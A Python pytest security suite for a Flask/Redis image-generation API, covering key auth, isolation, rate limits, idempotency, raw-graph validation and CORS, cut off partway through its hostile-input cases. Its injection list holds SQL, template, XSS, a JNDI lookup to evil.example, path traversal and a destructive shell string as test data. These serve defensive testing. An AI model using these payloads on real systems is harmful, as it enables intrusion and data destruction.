"""Security and hostile input: API keys, per-key isolation, rate limits, job caps, idempotency,
raw workflows, CORS, secrets in logs, hostile ids and bodies, and a schemathesis fuzz run.

Most checks drive the Flask app in-process against a private Redis (fast, and Celery messages
simply wait in Redis); the end-to-end ones run real fleets (gunicorn, workers, simulators).
"""
from __future__ import annotations

import base64
import http.client
import json
import os
import subprocess
import sys
import threading
import time
import uuid
import zlib

import pytest
import redis
import requests

from common.registry import Registry
from common import lifecycle
from common.task_store import TaskStore, read_record, unpack_payload
from tests.support.api import story
from tests.support.procs import REPO, RedisServer, free_port, wait_until

pytestmark = pytest.mark.timeout(120)

ALICE_KEY = "alice-key-0123456789abcdef0123456789"
BOB_KEY = "bob-key-abcdef0123456789abcdef01234567"
API_KEYS = f"alice:{ALICE_KEY},bob:{BOB_KEY}"
ALICE = {"Authorization": f"Bearer {ALICE_KEY}"}
BOB = {"Authorization": f"Bearer {BOB_KEY}"}
SDXL = {"workflow": "sdxl", "prompt": "a lighthouse at dusk", "width": 256, "height": 256, "steps": 2}
SDXL_GRAPH = json.loads((REPO / "workflows" / "sdxl" / "api.json").read_text())
QUEUE = "gpu.test.0"
WEBHOOK_SECRET = "whsec_" + base64.b64encode(b"security-test-webhook-secret-32b").decode()
WEBHOOK_HOST = "hooks.example.com"


def beat(client: redis.Redis, queue: str = QUEUE, ttl: float = 600) -> None:
    """A heartbeat as a healthy worker would publish it, so dispatch has a GPU to pick."""
    Registry(client, ttl).publish({"queue": queue, "host": "test", "comfyui_ok": True, "instance": "test"})


@pytest.fixture
def make_app(redis_server, tmp_path):
    """create_app(...) on the private Redis with settings overrides, plus one live (fake) GPU."""
    from app import create_app
    from common.settings import Settings

    client = redis.Redis.from_url(redis_server.url)
    beat(client)

    def make(**env):
        settings = Settings(REDIS_URL=redis_server.url, STORAGE_DIR=str(tmp_path / "outputs"), HEARTBEAT_TTL=600,
                            **env)
        app = create_app(settings)
        app.testing = True
        app.redis = client
        return app
    yield make
    client.close()


def n_tasks(client: redis.Redis) -> int:
    return len(client.keys("cs:task:*"))


# ---- API keys -----------------------------------------------------------------------------------

def test_no_keys_is_open_anonymous_and_warns_loudly(make_app, monkeypatch):
    from app import security

    warnings = []
    monkeypatch.setattr(security.log, "warning", lambda msg, *args: warnings.append(msg % args))
    app = make_app()
    assert any("NO API KEYS CONFIGURED" in w for w in warnings), warnings
    client = app.test_client()
    accepted = client.post("/api/v1/generate", json=SDXL)
    assert accepted.status_code == 202
    task_id = accepted.json["task_id"]
    assert json.loads(app.redis.hget(f"cs:task:{task_id}", "owner")) == "anonymous"
    assert client.get(f"/api/v1/tasks/{task_id}").status_code == 200
    # A bearer header is simply ignored while no key exists.
    assert client.get(f"/api/v1/tasks/{task_id}", headers=ALICE).status_code == 200


def test_keys_required_on_every_api_route_and_probes_stay_open(make_app):
    app = make_app(API_KEYS=API_KEYS)
    client = app.test_client()
    some_id = str(uuid.uuid4())
    routes = [("POST", "/api/v1/generate"), ("GET", f"/api/v1/tasks/{some_id}"), ("DELETE", f"/api/v1/tasks/{some_id}"),
              ("GET", f"/api/v1/tasks/{some_id}/images/0"), ("GET", f"/api/v1/tasks/{some_id}/logs"),
              ("GET", "/api/v1/workflows"), ("GET", "/api/v1/workers"), ("GET", "/api/v1/no-such-route")]
    for method, path in routes:
        missing = client.open(path, method=method, json=SDXL if method == "POST" else None)
        assert missing.status_code == 401, (method, path, missing.json)
        assert missing.json["error"]["code"] == "missing_api_key"
        assert missing.headers["WWW-Authenticate"].startswith("Bearer")
    for header in ({"Authorization": "Bearer not-a-key-of-this-service-000"}, {"Authorization": f"Basic {ALICE_KEY}"},
                   {"Authorization": "Bearer"}, {"Authorization": "Bearer " + "x" * 5000},
                   {"Authorization": f"Bearer {ALICE_KEY[:-1]}"}):
        wrong = client.get("/api/v1/workflows", headers=header)
        assert wrong.status_code == 401 and wrong.json["error"]["code"] == "invalid_api_key", header
        assert 'error="invalid_token"' in wrong.headers["WWW-Authenticate"]
    assert client.get("/api/v1/workflows", headers=ALICE).status_code == 200
    assert client.get("/api/v1/workflows", headers={"Authorization": f"bearer {BOB_KEY}"}).status_code == 200
    for path in ("/healthz", "/readyz", "/metrics", "/openapi.json"):
        assert client.get(path).status_code == 200, path


def test_redis_keys_added_disabled_enabled_and_never_stored_in_clear(make_app):
    from common.apikeys import KeyStore

    app = make_app()  # no key yet: open
    client = app.test_client()
    assert client.get("/api/v1/workflows").status_code == 200
    store = KeyStore(app.redis)
    key = store.add("carol")
    with pytest.raises(ValueError):
        store.add("carol")  # names are unique
    with pytest.raises(ValueError):
        store.add("anonymous")
    carol = {"Authorization": f"Bearer {key}"}
    # A key added at run time takes effect on the next request: the API is closed now.
    assert client.get("/api/v1/workflows").status_code == 401
    assert client.get("/api/v1/workflows", headers=carol).status_code == 200
    store.set_disabled("carol", True)
    refused = client.get("/api/v1/workflows", headers=carol)
    assert refused.status_code == 403 and refused.json["error"]["code"] == "api_key_disabled"
    store.set_disabled("carol", False)
    assert client.get("/api/v1/workflows", headers=carol).status_code == 200
    assert [(r.name, r.disabled) for r in store.list()] == [("carol", False)]
    everything = b"".join(v for k in app.redis.keys("cs:apikeys*") for v in app.redis.hgetall(k).values())
    assert key.encode() not in everything  # only its SHA-256 digest is kept


def test_keys_cli_add_disable_enable_list(redis_server):
    env = {**os.environ, "REDIS_URL": redis_server.url}

    def cli(*args):
        return subprocess.run([sys.executable, "-m", "app.keys", *args], cwd=REPO, env=env, capture_output=True,
                              text=True, timeout=30)
    added = cli("add", "dave")
    assert added.returncode == 0, added.stderr
    key = added.stdout.strip()
    assert key.startswith("cs_") and len(key) > 40 and "\n" not in key
    assert cli("add", "dave").returncode == 1  # exists
    assert cli("add", "../evil").returncode == 1
    assert cli("disable", "dave").returncode == 0
    listed = cli("list")
    assert listed.returncode == 0 and "dave" in listed.stdout and "yes" in listed.stdout
    assert key not in listed.stdout + listed.stderr
    assert cli("enable", "dave").returncode == 0
    assert "no" in cli("list").stdout.splitlines()[1]
    assert cli("disable", "nobody").returncode == 1


def test_env_keys_are_validated_without_echoing_them():
    from common.apikeys import parse_env_keys

    assert set(parse_env_keys(API_KEYS).values()) == {"alice", "bob"}
    for bad in ("alice", "alice:short", "anonymous:" + "k" * 20, "bad name:" + "k" * 20, "a:" + "k" * 19 + "\u00e9"):
        with pytest.raises(ValueError) as err:
            parse_env_keys(bad)
        secret = bad.partition(":")[2]
        assert not secret or secret not in str(err.value)


# ---- Isolation ----------------------------------------------------------------------------------

def test_a_key_sees_and_cancels_only_its_own_tasks(make_app, tmp_path):
    app = make_app(API_KEYS=API_KEYS)
    client = app.test_client()
    mine = client.post("/api/v1/generate", json=SDXL, headers=ALICE)
    assert mine.status_code == 202
    task_id = mine.json["task_id"]
    assert json.loads(app.redis.hget(f"cs:task:{task_id}", "owner")) == "alice"
    unknown = client.get(f"/api/v1/tasks/{uuid.uuid4()}", headers=BOB)
    for method, path in (("GET", f"/api/v1/tasks/{task_id}"), ("DELETE", f"/api/v1/tasks/{task_id}"),
                         ("GET", f"/api/v1/tasks/{task_id}/images/0"), ("GET", f"/api/v1/tasks/{task_id}/logs"),
                         ("GET", f"/api/v1/tasks/{task_id.upper()}")):
        other = client.open(path, method=method, headers=BOB)
        assert other.status_code == 404, (method, path)
        assert other.json["error"]["code"] == unknown.json["error"]["code"] == "task_not_found"
        assert set(other.json["error"]["details"]) == {"task_id"}  # nothing tells it exists
    assert json.loads(app.redis.hget(f"cs:task:{task_id}", "status")) == "queued"  # bob's DELETE did nothing
    assert client.get(f"/api/v1/tasks/{task_id}", headers=ALICE).status_code == 200
    assert client.get(f"/api/v1/tasks/{task_id}/logs", headers=ALICE).status_code == 200
    cancelled = client.delete(f"/api/v1/tasks/{task_id}", headers=ALICE)
    assert cancelled.status_code == 200 and cancelled.json["status"] == "cancelled"


# ---- Rate limits and job caps -------------------------------------------------------------------

def test_rate_limits_per_key_with_retry_after(make_app):
    app = make_app(API_KEYS=API_KEYS, RATE_LIMIT="6/minute", RATE_LIMIT_GENERATE="2/minute")
    client = app.test_client()
    assert [client.post("/api/v1/generate", json=SDXL, headers=ALICE).status_code for _ in range(2)] == [202, 202]
    limited = client.post("/api/v1/generate", json=SDXL, headers=ALICE)
    assert limited.status_code == 429
    assert limited.json["error"]["source"] == "service" and limited.json["error"]["code"] == "rate_limited"
    assert 1 <= int(limited.headers["Retry-After"]) <= 61
    assert n_tasks(app.redis) == 2
    assert client.post("/api/v1/generate", json=SDXL, headers=BOB).status_code == 202  # bob has his own budget
    # The overall budget covers every /api/v1 route (alice has used 3 of 6).
    assert [client.get("/api/v1/workflows", headers=ALICE).status_code for _ in range(4)] == [200, 200, 200, 429]
    assert client.get("/healthz").status_code == 200  # probes are not limited
    assert client.get("/api/v1/workflows", headers=BOB).status_code == 200


def test_rate_limits_can_be_switched_off(make_app):
    client = make_app(RATE_LIMIT="off", RATE_LIMIT_GENERATE="").test_client()
    assert all(client.get("/api/v1/workflows").status_code == 200 for _ in range(30))


def test_active_job_caps_refuse_without_queueing(make_app):
    app = make_app(API_KEYS=API_KEYS, MAX_ACTIVE_JOBS_PER_KEY=2, MAX_ACTIVE_JOBS=3)
    client = app.test_client()
    first, second = (client.post("/api/v1/generate", json=SDXL, headers=ALICE) for _ in range(2))
    assert first.status_code == second.status_code == 202
    refused = client.post("/api/v1/generate", json=SDXL, headers=ALICE)
    assert refused.status_code == 429 and refused.json["error"]["code"] == "too_many_jobs"
    assert refused.json["error"]["details"] == {"scope": "key", "active": 2, "limit": 2}
    assert int(refused.headers["Retry-After"]) > 0
    assert n_tasks(app.redis) == 2 and app.redis.llen(QUEUE) == 2  # nothing queued
    assert client.post("/api/v1/generate", json=SDXL, headers=BOB).status_code == 202
    overall = client.post("/api/v1/generate", json=SDXL, headers=BOB)
    assert overall.status_code == 429 and overall.json["error"]["details"]["scope"] == "service"
    # A cancel frees the slot at once.
    assert client.delete(f"/api/v1/tasks/{first.json['task_id']}", headers=ALICE).status_code == 200
    assert client.post("/api/v1/generate", json=SDXL, headers=ALICE).status_code == 202


def test_concurrent_submits_cannot_overshoot_the_cap(make_app):
    app = make_app(MAX_ACTIVE_JOBS_PER_KEY=5, RATE_LIMIT="off", RATE_LIMIT_GENERATE="off")
    statuses = []
    barrier = threading.Barrier(16)

    def submit():
        client = app.test_client()
        barrier.wait()
        statuses.append(client.post("/api/v1/generate", json=SDXL).status_code)
    threads = [threading.Thread(target=submit) for _ in range(16)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(30)
    assert sorted(statuses) == [202] * 5 + [429] * 11
    assert n_tasks(app.redis) == 5 and app.redis.scard("cs:active:anonymous") == 5


def test_active_sets_follow_every_status_path(redis_server):
    """Every path through the lifecycle (API cancel, a worker's hand-over, start, success,
    failure and cancel, failover's requeue, the monitor giving up) keeps cs:active and
    cs:active:<owner> right, and leaves the queue's indexes and cost total empty at the end."""
    client = redis.Redis.from_url(redis_server.url)
    store = TaskStore(client, 3600)

    def create(owner="alice", **caps):
        task_id = str(uuid.uuid4())
        record = {"task_id": task_id, "workflow": "sdxl", "queue": QUEUE, "owner": owner,
                  "params": {}, "created_at": "2026-01-01T00:00:00Z", "cost": 1.5}
        created = store.create(record, {"graph": {}}, **caps)
        return task_id if created.outcome == "created" else (created.outcome, created.info)

    def active(owner="alice"):
        return {m.decode() for m in client.smembers(f"cs:active:{owner}")}
    run = ["hand", "start"]
    paths = {
        "cancel while waiting": ["cancel_waiting"],
        "success": [*run, "succeed"],
        "failure": [*run, "fail"],
        "cancel while queued in ComfyUI": ["hand", "request_cancel", "cancel_run"],
        "cancel while running": [*run, "request_cancel", "cancel_run"],
        "failover requeue, then success": [*run, "requeue", *run, "succeed"],
        "failover gives up": [*run, "requeue", *run, "fail"],
    }
    for name, steps in paths.items():
        task_id = create()
        assert task_id in active() and client.sismember("cs:active", task_id), name
        for step in steps:
            done = store.apply(step, task_id, queue=QUEUE, owner="alice", instance="w1",
                               fields={"worker": "w1"} if step == "hand" else {})
            assert done.applied, (name, step, done.before)
            final = lifecycle.transition(step).target in lifecycle.FINAL_STATES
            assert (task_id in active()) == (not final), (name, step)
            assert client.sismember("cs:active", task_id) == (not final)
        # A finished record never changes again, so it cannot re-enter the sets.
        for step in lifecycle.TRANSITIONS:
            if step != "submit":
                assert not store.apply(step, task_id, queue=QUEUE, owner="alice", instance="w1").applied, step
    assert active() == set() and client.scard("cs:active") == 0
    assert store.waiting(QUEUE) == store.taken(QUEUE) == []
    assert client.hget("cs:queues", QUEUE) == b"0 0 0 0"  # jobs waiting, handed, running; their cost
    # Caps: per owner and overall; a member whose record vanished is pruned, not counted forever.
    first, second = create(max_active_per_owner=2), create(max_active_per_owner=2)
    assert create(max_active_per_owner=2) == ("full", {"scope": "key", "active": 2, "limit": 2})
    assert isinstance(create("bob", max_active=3), str)
    assert create("bob", max_active=3)[1]["scope"] == "service"
    client.delete(f"cs:task:{first}")  # expired without passing the transition script
    client.delete("cs:active:alice:pruned")  # pruning runs at most every 5 s per set: let it run now
    assert isinstance(create(max_active_per_owner=2), str)
    assert second in active()


# ---- Idempotency --------------------------------------------------------------------------------

def test_idempotency_key_replays_the_first_task(make_app):
    app = make_app(API_KEYS=API_KEYS)
    client = app.test_client()
    headers = {**ALICE, "Idempotency-Key": "order-42"}
    first = client.post("/api/v1/generate", json=SDXL, headers=headers)
    assert first.status_code == 202 and "Idempotent-Replayed" not in first.headers
    again = client.post("/api/v1/generate", json=dict(reversed(list(SDXL.items()))), headers=headers)
    assert again.status_code == 202 and again.headers["Idempotent-Replayed"] == "true"
    assert again.json["task_id"] == first.json["task_id"] and again.json["params"] == first.json["params"]
    assert again.headers["Location"] == first.headers["Location"]
    assert n_tasks(app.redis) == 1 and app.redis.llen(QUEUE) == 1
    other = client.post("/api/v1/generate", json={**SDXL, "prompt": "another"}, headers=headers)
    assert other.status_code == 422 and other.json["error"]["code"] == "idempotency_key_reused"
    assert other.json["error"]["details"]["field"] == "Idempotency-Key"
    # Keys are per owner: bob's "order-42" is his own.
    assert client.post("/api/v1/generate", json=SDXL, headers={**BOB, "Idempotency-Key": "order-42"}).json[
        "task_id"] != first.json["task_id"]
    ttl = [app.redis.ttl(k) for k in app.redis.keys("cs:idem:alice:*")]
    assert len(ttl) == 1 and 24 * 3600 - 60 < ttl[0] <= 24 * 3600
    # Only accepted submissions are remembered: a refused one can be retried with its key.
    bad = {**ALICE, "Idempotency-Key": "bad-first"}
    assert client.post("/api/v1/generate", json={**SDXL, "steps": 0}, headers=bad).status_code == 422
    assert client.post("/api/v1/generate", json=SDXL, headers=bad).status_code == 202
    for value in ("", " ", "x" * 256, "tab\there", "caf\u00e9"):
        malformed = client.post("/api/v1/generate", json=SDXL, headers={**ALICE, "Idempotency-Key": value})
        assert malformed.status_code == 400, value
        assert malformed.json["error"]["code"] == "invalid_idempotency_key"
    assert client.post("/api/v1/generate", json=SDXL, headers={**ALICE, "Idempotency-Key": "k" * 255}).status_code == 202


def test_concurrent_identical_requests_queue_once(make_app):
    app = make_app(RATE_LIMIT="off", RATE_LIMIT_GENERATE="off")
    results = []
    barrier = threading.Barrier(12)

    def submit():
        client = app.test_client()
        barrier.wait()
        response = client.post("/api/v1/generate", json=SDXL, headers={"Idempotency-Key": "same"})
        results.append((response.status_code, response.json["task_id"]))
    threads = [threading.Thread(target=submit) for _ in range(12)]
    for t in threads:
        t.start()
    for t in threads:
        t.join(30)
    assert {status for status, _ in results} == {202} and len({task for _, task in results}) == 1
    assert n_tasks(app.redis) == 1 and app.redis.llen(QUEUE) == 1


# ---- Raw workflows ------------------------------------------------------------------------------

def test_raw_workflows_are_off_by_default(make_app):
    app = make_app()
    refused = app.test_client().post("/api/v1/generate", json={"workflow": "raw", "graph": SDXL_GRAPH})
    assert refused.status_code == 403 and refused.json["error"]["code"] == "raw_workflows_disabled"
    assert n_tasks(app.redis) == 0


def test_raw_workflow_allowed_runs_as_sent_with_service_file_names(make_app):
    app = make_app(ALLOW_RAW_WORKFLOWS="true")
    graph = json.loads(json.dumps(SDXL_GRAPH))
    graph["9"]["inputs"]["filename_prefix"] = "../../etc/owned"
    graph["3"]["inputs"]["seed"] = 7
    accepted = app.test_client().post("/api/v1/generate", json={"workflow": "raw", "graph": graph})
    assert accepted.status_code == 202, accepted.json
    task = accepted.json
    assert task["workflow"] == "raw" and task["params"]["steps"] == 25 and task["params"]["nodes"] == 7
    payload = unpack_payload(app.redis.get(f"cs:payload:{task['task_id']}"))
    assert "ui" not in payload
    sent = payload["graph"]
    assert sent["9"]["inputs"]["filename_prefix"] == f"cs_{task['task_id']}"
    assert sent["3"]["inputs"]["seed"] == 7  # no seed drawn or changed
    assert {k: v for k, v in sent.items() if k != "9"} == {k: v for k, v in graph.items() if k != "9"}
    record = read_record(app.redis, task["task_id"])
    assert record["cost"] == 25.0 * 1024 * 1024 / 1024**2 and record["checkpoint"] == "sd_xl_base_1.0.safetensors"


def _graph(**changes):
    graph = json.loads(json.dumps(SDXL_GRAPH))
    for path, value in changes.items():
        node, _, rest = path.partition("__")
        if rest:
            graph[node]["inputs"][rest] = value
        else:
            graph[node] = value
    return graph


RAW_REJECTS = [
    ("graph not an object", [1, 2], "invalid_parameters", "graph"),
    ("empty graph", {}, "invalid_parameters", "graph"),
    ("too many nodes", {str(i): {"class_type": "PreviewImage", "inputs": {}} for i in range(201)},
     "invalid_parameters", "graph"),
    ("node not allowed", _graph(**{"10": {"class_type": "LoadImage", "inputs": {"image": "x.png"}}}),
     "node_not_allowed", "graph.10.class_type"),
    ("node class not a string", _graph(**{"10": {"class_type": ["SaveImage"], "inputs": {}}}),
     "invalid_parameters", "graph.10.class_type"),
    ("missing inputs", _graph(**{"10": {"class_type": "SaveImage"}}), "invalid_parameters", "graph.10.inputs"),
    ("unknown node field", _graph(**{"10": {"class_type": "SaveImage", "inputs": {}, "is_changed": "x"}}),
     "invalid_parameters", "graph.10.is_changed"),
    ("link to a missing node", _graph(**{"8__samples": ["99", 0]}), "invalid_parameters", "graph.8.inputs.samples"),
    ("link to itself", _graph(**{"8__samples": ["8", 0]}), "invalid_parameters", "graph.8.inputs.samples"),
    ("link output out of range", _graph(**{"8__samples": ["3", 1000]}), "invalid_parameters",
     "graph.8.inputs.samples"),
    ("cycle", _graph(**{"6__clip": ["8", 0]}), "invalid_parameters", "graph."),
    ("nested object as input", _graph(**{"6__text": {"$gt": ""}}), "invalid_parameters", "graph.6.inputs.text"),
    ("null input", _graph(**{"6__text": None}), "invalid_parameters", "graph.6.inputs.text"),
    ("huge string", _graph(**{"6__text": "x" * 10_001}), "invalid_parameters", "graph.6.inputs.text"),
    ("control characters", _graph(**{"6__text": "a\x00b"}), "invalid_parameters", "graph.6.inputs.text"),
    ("checkpoint climbing out", _graph(**{"4__ckpt_name": "../../secret.safetensors"}), "invalid_parameters",
     "graph.4.inputs.ckpt_name"),
    ("hostile node id", _graph(**{"../x": {"class_type": "SaveImage", "inputs": {}}}), "invalid_parameters",
     "graph.../x"),
    ("hostile input name", _graph(**{"6__te\nxt": "x"}), "invalid_parameters", "graph.6.inputs.te\nxt"),
]


@pytest.mark.parametrize("case, graph, code, field", RAW_REJECTS, ids=[c[0] for c in RAW_REJECTS])
def test_raw_graphs_are_validated(make_app, case, graph, code, field):
    app = make_app(ALLOW_RAW_WORKFLOWS="true")
    refused = app.test_client().post("/api/v1/generate", json={"workflow": "raw", "graph": graph})
    assert refused.status_code == 422, refused.json
    error = refused.json["error"]
    assert error["code"] == code
    assert error["details"]["errors"][0]["field"].startswith(field), error
    assert n_tasks(app.redis) == 0


def test_raw_body_fields_and_allowlist_setting(make_app):
    app = make_app(ALLOW_RAW_WORKFLOWS="true", RAW_NODE_ALLOWLIST="CheckpointLoaderSimple")
    client = app.test_client()
    only_loader = {"4": SDXL_GRAPH["4"]}
    assert client.post("/api/v1/generate", json={"workflow": "raw", "graph": only_loader}).status_code == 202
    refused = client.post("/api/v1/generate", json={"workflow": "raw", "graph": SDXL_GRAPH})
    assert refused.json["error"]["code"] == "node_not_allowed"
    extra = client.post("/api/v1/generate", json={"workflow": "raw", "graph": only_loader, "seed": 1})
    assert extra.status_code == 422 and extra.json["error"]["details"]["errors"][0]["field"] == "seed"
    missing = client.post("/api/v1/generate", json={"workflow": "raw"})
    assert missing.status_code == 422 and missing.json["error"]["details"]["errors"][0]["field"] == "graph"


# ---- CORS ---------------------------------------------------------------------------------------

def test_cors_is_off_unless_configured(make_app):
    client = make_app(API_KEYS=API_KEYS).test_client()
    response = client.get("/api/v1/workflows", headers={**ALICE, "Origin": "https://app.example"})
    assert response.status_code == 200 and "Access-Control-Allow-Origin" not in response.headers
    preflight = client.options("/api/v1/generate", headers={"Origin": "https://app.example",
                                                              "Access-Control-Request-Method": "POST"})
    assert "Access-Control-Allow-Origin" not in preflight.headers


def test_cors_allows_only_the_configured_origins(make_app):
    client = make_app(API_KEYS=API_KEYS, CORS_ORIGINS="https://app.example, https://admin.example").test_client()
    allowed = client.get("/api/v1/workflows", headers={**ALICE, "Origin": "https://app.example"})
    assert allowed.headers["Access-Control-Allow-Origin"] == "https://app.example"
    preflight = client.options("/api/v1/generate", headers={
        "Origin": "https://admin.example", "Access-Control-Request-Method": "POST",
        "Access-Control-Request-Headers": "authorization, content-type, idempotency-key"})
    assert preflight.status_code == 200  # no key on a preflight: it is not refused
    assert preflight.headers["Access-Control-Allow-Origin"] == "https://admin.example"
    assert "authorization" in preflight.headers["Access-Control-Allow-Headers"].lower()
    other = client.get("/api/v1/workflows", headers={**ALICE, "Origin": "https://evil.example"})
    assert "Access-Control-Allow-Origin" not in other.headers
    # The refusal itself carries CORS headers, so a browser client can read the 401.
    refused = client.get("/api/v1/workflows", headers={"Origin": "https://app.example"})
    assert refused.status_code == 401 and refused.headers["Access-Control-Allow-Origin"] == "https://app.example"


# ---- Limits and the document --------------------------------------------------------------------

def _walk(schema: dict, schemas: dict, path: str, seen: set):
    if "$ref" in schema:
        name = schema["$ref"].rsplit("/", 1)[-1]
        if name in seen:
            return
        yield from _walk(schemas[name], schemas, f"{path}<{name}>", seen | {name})
        return
    for key in ("anyOf", "oneOf", "allOf", "prefixItems"):
        for index, sub in enumerate(schema.get(key, [])):
            yield from _walk(sub, schemas, f"{path}/{key}{index}", seen)
    yield path, schema
    for name, sub in (schema.get("properties") or {}).items():
        yield from _walk(sub, schemas, f"{path}.{name}", seen)
    for key in ("items", "additionalProperties"):
        if isinstance(schema.get(key), dict):
            yield from _walk(schema[key], schemas, f"{path}[{key}]", seen)


def test_every_request_string_and_list_is_bounded():
    from app.openapi import openapi_document
    from workflows.catalog import load_catalog

    document = openapi_document(load_catalog())
    schemas = document["components"]["schemas"]
    request = document["paths"]["/api/v1/generate"]["post"]["requestBody"]["content"]["application/json"]["schema"]
    checked = 0
    for path, schema in _walk(request, schemas, "body", set()):
        kind = schema.get("type")
        if kind == "string" and "const" not in schema and "enum" not in schema:
            assert "maxLength" in schema, path
            checked += 1
        if kind == "array":
            assert "maxItems" in schema, path
        if kind == "object" and path.endswith(("graph", "inputs")):
            assert "maxProperties" in schema, path
    assert checked >= 15
    header = document["paths"]["/api/v1/generate"]["post"]["parameters"][0]
    assert header["name"] == "Idempotency-Key" and header["schema"]["maxLength"] == 255


def test_openapi_document_declares_security_and_every_error():
    from openapi_spec_validator import validate

    from app.openapi import openapi_document
    from workflows.catalog import load_catalog

    document = openapi_document(load_catalog())
    validate(document)
    assert document["components"]["securitySchemes"]["bearerAuth"]["scheme"] == "bearer"
    for path, item in document["paths"].items():
        for method, operation in item.items():
            if method == "parameters":
                continue
            if path.startswith("/api/v1/"):
                assert operation["security"] == [{"bearerAuth": []}], path
                assert {"401", "403", "429", "503"} <= set(operation["responses"]), (method, path)
                assert "Retry-After" in operation["responses"]["429"]["headers"]
            else:
                assert operation["security"] == [], path
    assert {"/healthz", "/readyz", "/metrics", "/openapi.json"} <= set(document["paths"])
    variants = document["paths"]["/api/v1/generate"]["post"]["requestBody"]["content"]["application/json"]["schema"]
    assert {"$ref": "#/components/schemas/Generate_raw"} in variants["anyOf"]


def test_openapi_document_names_every_route_the_api_serves(redis_server):
    import re as _re

    from app import create_app
    from app.openapi import openapi_document
    from common.settings import Settings
    from workflows.catalog import load_catalog

    document = openapi_document(load_catalog())
    flask_app = create_app(Settings(REDIS_URL=redis_server.url, LOG_DIR=""))
    served = set()
    for rule in flask_app.url_map.iter_rules():
        if rule.endpoint == "static":
            continue
        path = _re.sub(r"<(?:\w+:)?(\w+)>", r"{\1}", rule.rule)
        for method in rule.methods - {"HEAD", "OPTIONS"}:
            served.add((path, method.lower()))
    documented = {(path, method) for path, item in document["paths"].items() for method in item
                  if method != "parameters"}
    assert served == documented


# ---- Hostile input over HTTP (a real API under gunicorn) ---------------------------------------

@pytest.fixture(scope="module")
def api_fleet(tmp_path_factory):
    """Redis and the API under gunicorn, with keys, raw workflows on, limits off, and a (fake)
    GPU whose heartbeat lasts an hour: jobs are accepted and wait in Redis, nothing runs."""
    from tests.support.fleet import Fleet

    workdir = tmp_path_factory.mktemp("security-api")
    fleet = Fleet(workdir=workdir, redis=RedisServer(port=free_port(), workdir=workdir).start(), extra_env={
        "API_KEYS": API_KEYS, "HEARTBEAT_TTL": "3600", "RATE_LIMIT": "off", "RATE_LIMIT_GENERATE": "off",
        "MAX_ACTIVE_JOBS_PER_KEY": "0", "MAX_ACTIVE_JOBS": "0", "ALLOW_RAW_WORKFLOWS": "true",
        # Webhooks on, so that a callback_url is accepted (nothing delivers them here).
        "WEBHOOK_SECRET": WEBHOOK_SECRET, "WEBHOOK_ALLOWED_HOSTS": WEBHOOK_HOST})
    beat(redis.Redis.from_url(fleet.redis.url), ttl=3600)
    fleet.start_api()
    yield fleet
    fleet.stop()


def _json(body: dict) -> dict:
    return {"json": body}


def _raw(data: bytes, content_type: str = "application/json") -> dict:
    return {"data": data, "headers": {"Content-Type": content_type}}


def _sdxl(**fields) -> dict:
    return _json({**SDXL, **fields})


INJECTIONS = [
    ("sql injection", "'; DROP TABLE tasks;-- \" OR 1=1 --"),
    ("template injection", "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> {% raw %}"),
    ("script tag", "<script>alert(1)</script><img src=x onerror=alert(1)>"),
    ("jndi lookup", "${jndi:ldap://evil.example/a}"),
    ("path in prompt", "../../../../etc/passwd"),
    ("format strings", "%s%s%n %x {0} {__class__.__mro__}"),
    ("shell", "$(rm -rf /); `id` | cat /etc/shadow"),
    ("unicode", "灯台 🌊 ÆØÅ — naïve café ﷽"),
    ("rtl override", "abc\u202edcba \u2066isolate\u2069"),
    ("zero width and combining", "a\u200bb\u0301\ufeff"),
    ("line breaks and tabs", "line one\nline two\r\n\tindented"),
    ("json in text", '{"workflow": "raw", "graph": {}}'),
]

HOSTILE = [
    *[(f"prompt: {name}", _sdxl(prompt=text), 202, None, None) for name, text in INJECTIONS],
    ("scene and character text verbatim", _json(story(
        characters=[{"name": "Lena", "description": "<b>'; DROP TABLE--</b> {{7*7}} \u202e"}],
        scenes=["[Lena] {{7*7}} <script>x</script>", "[Lena] '; DROP TABLE--"])), 202, None, None),
    ("null byte in prompt", _sdxl(prompt="a\u0000b"), 422, "invalid_parameters", "prompt"),
    ("escape sequence in prompt", _sdxl(prompt="\u001b[31mred"), 422, "invalid_parameters", "prompt"),
    ("lone surrogate in prompt", _raw(b'{"workflow": "sdxl", "prompt": "a\\ud800"}'), 422, "invalid_parameters",
     "prompt"),
    ("null byte in scene", _json(story(scenes=["[Lena] a\u0000b"])), 422, "invalid_parameters", "scenes.0"),
    ("newline in scene", _json(story(scenes=["[Lena] a\n[Lena] b"])), 422, "invalid_parameters", "scenes.0"),
    ("rtl override in character name", _json(story(characters=[{"name": "Lena\u202e", "description": "x"}])),
     422, "invalid_parameters", "characters.0.name"),
    ("very long character name", _json(story(characters=[{"name": "L" + "a" * 40, "description": "x"}])),
     422, "invalid_parameters", "characters.0.name"),
    ("very long prompt", _sdxl(prompt="x" * 4001), 422, "invalid_parameters", "prompt"),
    ("very long negative prompt", _sdxl(negative_prompt="x" * 4001), 422, "invalid_parameters", "negative_prompt"),
    ("very long scene", _json(story(scenes=["[Lena] " + "x" * 500])), 422, "invalid_parameters", "scenes.0"),
    ("too many scenes", _json(story(scenes=["[Lena] x"] * 25)), 422, "invalid_parameters", "scenes"),
    ("too many characters", _json(story(characters=[{"name": f"C{i}", "description": "x"} for i in range(5)],
                                        scenes=[f"[C{i}] x" for i in range(5)])), 422, "invalid_parameters",
     "characters"),
    ("huge width", _sdxl(width=2064), 422, "invalid_parameters", "width"),
    ("huge int height", _sdxl(height=10**30), 422, "invalid_parameters", "height"),
    ("negative width", _sdxl(width=-256), 422, "invalid_parameters", "width"),
    ("negative steps", _sdxl(steps=-1), 422, "invalid_parameters", "steps"),
    ("too many steps", _sdxl(steps=101), 422, "invalid_parameters", "steps"),
    ("fractional steps", _sdxl(steps=20.5), 422, "invalid_parameters", "steps"),
    ("steps written as a float", _sdxl(steps=20.0), 202, None, None),  # JSON Schema's integer, as documented
    ("boolean cfg", _sdxl(cfg=True), 422, "invalid_parameters", "cfg"),
    ("negative seed", _sdxl(seed=-1), 422, "invalid_parameters", "seed"),
    ("huge seed", _sdxl(seed=2**63), 422, "invalid_parameters", "seed"),
    ("1e999 is infinite", _raw(b'{"workflow": "sdxl", "prompt": "x", "cfg": 1e999}'), 422, "invalid_parameters",
     "cfg"),
    ("NaN literal", _raw(b'{"workflow": "sdxl", "prompt": "x", "cfg": NaN}'), 400, "invalid_json", None),
    ("Infinity literal", _raw(b'{"workflow": "sdxl", "prompt": "x", "cfg": Infinity}'), 400, "invalid_json", None),
